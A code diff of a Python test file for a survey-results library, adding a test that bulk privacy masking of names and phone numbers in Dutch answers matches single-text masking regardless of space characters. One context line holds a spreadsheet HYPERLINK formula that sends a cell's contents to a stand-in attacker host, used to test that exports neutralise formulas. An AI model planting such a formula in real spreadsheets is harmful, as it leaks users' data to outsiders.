@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+from pathlib import Path
 
 import openpyxl
 import pandas as pd
@@ -11,7 +12,7 @@ import pytest
 
 from lib.present.answers import answers_table
 from lib.present.export import neutralise_formulas, table_bytes, write_table
-from lib.core.privacy import mask_series, mask_text
+from lib.core.privacy import NameList, mask_series, mask_text
 from lib.present.text import small
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'
@@ -166,3 +167,27 @@ def test_write_table_by_suffix(tmp_path, suffix):
         assert data[:2] == b"PK"
         ws = openpyxl.load_workbook(path).active
         assert ws["E2"].value == "'" + HYPERLINK
+
+
+def _privacy_lines(name: str) -> list[str]:
+    text = (Path(__file__).resolve().parent / "fixtures" / "privacy" / name).read_text(encoding="utf-8")
+    return [ln.replace("⟦", "").replace("⟧", "") for ln in text.splitlines() if ln.strip() and not ln.startswith("#")]
+
+
+def _privacy_answers() -> list[str]:
+    return _privacy_lines("answers_with_names.txt") + _privacy_lines("answers_held_out.txt")
+
+
+@pytest.mark.parametrize("space", [" ", "\u00a0", "\u202f", "\u2009", "\t"],
+                         ids=["space", "no-break space", "narrow no-break space", "thin space", "tab"])
+def test_the_bulk_masking_finds_what_mask_text_finds_whatever_the_white_space(space):
+    """The fast first pass (RE2 in pyarrow) may never skip an answer that ``mask_text`` would change: text pasted
+    from Word or a form has non-breaking spaces, which Python's \\s matches and RE2's does not."""
+    texts = [t.replace(" ", space) for t in _privacy_answers()]
+    texts += [f"mevrouw{space}la Rivière belde", f"Émile{space}van{space}Dijk zegt", f"bel 06{space}12{space}34{space}56{space}78"]
+    values = pd.Series(texts, dtype="str")
+    expected = [mask_text(t) for t in texts]
+    assert sum(e != t for e, t in zip(expected, texts)) > 80  # the masking has work to do in these answers
+    assert mask_series(values).tolist() == expected
+    own = NameList(_privacy_lines("respondents.txt"))  # the respondents' own names, wherever they occur
+    assert mask_series(values, names=own).tolist() == [mask_text(t, own) for t in texts]
